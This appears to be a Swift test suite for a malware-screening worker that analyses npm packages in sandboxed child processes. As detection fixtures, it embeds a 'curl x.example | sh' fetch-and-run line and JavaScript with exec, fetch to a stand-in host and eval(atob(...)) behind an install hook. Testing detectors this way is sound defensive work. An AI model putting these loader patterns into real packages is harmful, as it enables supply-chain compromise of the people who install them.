import Analyzers
import Cryptography
import Platform
import Registry
import Screening
import TestSupport
import Testing
import VerdictStore

@testable import Worker

@Suite("Analysis children")
struct AnalysisRunnerTests {
    private let directory: TemporaryDirectory
    private let pool = BlockingPool(name: "children", threads: 2)

    init() throws { directory = try TemporaryDirectory() }

    private func run(
        _ script: String, deadline: Duration = .seconds(20), grace: Duration = .seconds(5)
    ) async throws -> Result<AnalysisReport, AnalysisFailure> {
        let runner = AnalysisRunner(
            executable: "/bin/sh", arguments: ["-c", script],
            limits: ChildLimits(deadline: deadline, grace: grace), pool: pool)
        return await runner.run(try order(), on: try artifact(tarball()))
    }

    private func cause(_ script: String, deadline: Duration = .seconds(20)) async throws -> JobFailure.Cause? {
        switch try await run(script, deadline: deadline, grace: .milliseconds(300)) {
        case .success: nil
        case .failure(let failure): failure.cause
        }
    }

    private func artifact(_ bytes: [UInt8]) throws -> OpenFile {
        try OpenFile.openForReading(try directory.write(bytes, to: "artifact"))
    }

    private func order(
        limits: AnalysisLimits = .standard, memoryBytes: Int64 = 3 << 30,
        ruleset: SHA256Digest = StaticAnalyzer.revision.ruleset.digest, allowsDegradedSandbox: Bool = true
    ) throws -> AnalysisOrder {
        let purl = try PackageURL(parsing: "pkg:npm/acme-box@1.2.3")
        let context = ArtifactContext(ecosystem: .npm, purl: purl, filename: "acme-box-1.2.3.tgz")
        return AnalysisOrder(
            context: context, limits: limits, ruleset: ruleset, memoryBytes: memoryBytes,
            allowsDegradedSandbox: allowsDegradedSandbox)
    }

    /// Shell text that answers as a child does.
    private func answering(_ answer: [UInt8]) throws -> String {
        let length = [0, 8, 16, 24].reversed().map { UInt8(answer.count >> $0 & 0xFF) }
        let path = try directory.write(length + answer, to: "answer")
        // It takes its order first: a peer that closes with messages unread cuts its own answer off.
        return "/bin/dd bs=65536 count=1 <&4 >/dev/null 2>&1; /bin/cat \(path) >&4"
    }

    @Test("a complete answer is the report")
    func answered() async throws {
        let purl = try PackageURL(parsing: "pkg:npm/acme-box@1.2.3")
        let report = StaticAnalyzer.analyze(
            try artifact(tarball(script: "curl x.example | sh")),
            context: ArtifactContext(ecosystem: .npm, purl: purl, filename: "a.tgz"))
        #expect(report.verdict == .malicious)
        let result = try await run(try answering(AnalysisAnswer.encode(report)))
        #expect(try result.get() == report)
    }

    @Test("a child that crashes costs the attempt with its cause")
    func crashes() async throws {
        #expect(try await cause("kill -SEGV $$") == .crash)
        #expect(try await cause("exit 3") == .crash)
        #expect(try await cause("exit 72") == .crash)
        #expect(try await cause("exit 73") == .crash)
        #expect(try await cause("kill -KILL $$") == .memory)
        #expect(try await cause("exit 70") == .memory)
        #expect(try await cause("kill -XCPU $$") == .time)
    }

    @Test("a child that hangs is killed at its deadline")
    func hangs() async throws {
        #expect(try await cause("exec /bin/sleep 100", deadline: .milliseconds(200)) == .time)
    }

    @Test("a child that says nothing, too little, too much or nonsense gave garbage")
    func garbage() async throws {
        #expect(try await cause("exit 0") == .garbage)
        #expect(try await cause("exec 4>&-; exec /bin/sleep 100") == .garbage)
        #expect(try await cause("printf 'hello, world' >&4") == .garbage)
        #expect(try await cause(try answering(Array("{}".utf8))) == .garbage)
        #expect(try await cause("printf '\\000\\000\\001\\000{}' >&4") == .garbage)
        let flood = "x=0123456789abcdef; while [ ${#x} -lt 60000 ]; do x=$x$x; done; while :; do printf %s $x >&4; done"
        #expect(try await cause(flood) == .garbage)
    }

    @Test("a cancelled analysis ends at once and kills its child")
    func cancelled() async throws {
        let task = Task { try await run("exec /bin/sleep 100") }
        task.cancel()
        guard case .failure(let failure) = try await task.value else {
            Issue.record("it answered")
            return
        }
        // Ended by a signal and not by its deadline.
        #expect(failure.detail.hasPrefix("killed"))
    }

    @Test("an executable that is not there is a crash with its name")
    func missingExecutable() async throws {
        let runner = AnalysisRunner(
            executable: "/nonexistent/jurat", arguments: [], limits: ChildLimits(), pool: pool)
        guard case .failure(let failure) = await runner.run(try order(), on: try artifact(tarball())) else {
            Issue.record("it ran")
            return
        }
        #expect(failure.cause == .crash)
        #expect(failure.detail.contains("/nonexistent/jurat"))
    }

    // MARK: The real child

    private func runProbe(_ order: AnalysisOrder, on bytes: [UInt8]) async throws -> Result<
        AnalysisReport, AnalysisFailure
    > {
        let runner = AnalysisRunner(executable: try probePath(), arguments: [], limits: ChildLimits(), pool: pool)
        return await runner.run(order, on: try artifact(bytes))
    }

    @Test("the real child says what the analyzer says, twice the same")
    func realChild() async throws {
        let bytes = tarball(script: "curl x.example | sh")
        let first = try await runProbe(try order(), on: bytes).get()
        let second = try await runProbe(try order(), on: bytes).get()
        let here = StaticAnalyzer.analyze(try artifact(bytes), context: try order().context)
        #expect(first == here)
        #expect(second == here)
        #expect(try await runProbe(try order(), on: Array("no archive".utf8)).get().verdict == .suspicious)
    }

    @Test("two processes say the same bytes of the same artifact, and of its members in another order")
    func deterministic() async throws {
        let load =
            "const { exec } = require('child_process'); exec(process.env.HOME + '/x'); fetch('https://x.example')\n"
        let members: [(name: String, text: String)] = [
            (
                "package/package.json",
                #"{"name":"acme-box","version":"1.2.3","main":"a.js","scripts":{"install":"node b.js"}}"#
            ),
            ("package/a.js", "require('./lib/c')\n" + load), ("package/b.js", load + "eval(atob(process.argv[2]))\n"),
            ("package/lib/c.js", load), ("package/test/d.js", load), ("package/README.md", "\u{202E}text\n"),
            ("package/bad.json", "{"), ("package/data.bin", "\u{0}\u{1}"),
        ]
        var answers: [[UInt8]] = []
        for order in [members, members, members.reversed(), members.sorted { $0.name.count < $1.name.count }] {
            for start in [ChildStart.fresh, .copies(8)] {
                var tar = TarBuilder()
                for member in order { tar.addFile(member.name, member.text) }
                let runner = AnalysisRunner(
                    executable: try probePath(), arguments: [], limits: ChildLimits(), start: start, pool: pool)
                let report = try await runner.run(try self.order(), on: try artifact(tar.finished())).get()
                answers.append(AnalysisAnswer.encode(report))
            }
        }
        #expect(answers[0].count > 1000, "a report that says much")
        for answer in answers { #expect(answer == answers[0]) }
    }

    @Test("the real child analyses inside the complete sandbox, and refuses without it when it is required")
    func realChildIsConfined() async throws {
        let result = try await runProbe(try order(allowsDegradedSandbox: false), on: tarball())
        if Sandbox.available().isComplete {
            #expect(try result.get().verdict == .clean)
        } else {
            #expect(throws: AnalysisFailure.self) { try result.get() }
        }
    }

    @Test("the real child refuses other rules, and an analysis out of time is no verdict")
    func realChildRefuses() async throws {
        let foreign = try await runProbe(try order(ruleset: SHA256Digest(hashing: [])), on: tarball())
        #expect(throws: AnalysisFailure.self) { try foreign.get() }
        var limits = AnalysisLimits.standard
        limits.seconds = 0
        let late = try await runProbe(try order(limits: limits), on: tarball())
        guard case .failure(let failure) = late else {
            Issue.record("it answered")
            return
        }
        #expect(failure.cause == .time)
    }

    @Test("the real child reports that its memory ran out")
    func realChildMemory() async throws {
        // Far less than the runtime itself maps: the first large allocation fails.
        let result = try await runProbe(try order(memoryBytes: 96 << 20), on: bomb())
        guard case .failure(let failure) = result else {
            Issue.record("it answered")
            return
        }
        #expect(failure.cause == .memory)
    }

    /// Not compressed, so that making it takes no time.
    private func bomb() -> [UInt8] {
        var tar = TarBuilder()
        tar.addFile("package/package.json", #"{"name":"acme-box","version":"1.2.3"}"#)
        for index in 0..<4 { tar.add(.init("package/\(index).js", content: [UInt8](repeating: 0x20, count: 24 << 20))) }
        return tar.finished()
    }
}
